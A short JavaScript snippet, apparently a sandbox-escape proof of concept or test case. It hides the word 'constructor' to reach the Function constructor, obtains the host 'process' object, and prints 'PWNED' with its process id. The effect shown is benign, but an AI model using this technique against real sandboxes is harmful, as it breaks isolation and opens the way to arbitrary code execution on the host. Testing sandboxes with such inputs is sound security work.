'use strict';
const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
const { b, ...rest } = { b: 1, a: t };
const o = Date.now() > 1 ? rest.a : {};
console.log('PWNED', o.go(fn)('return process')().pid);
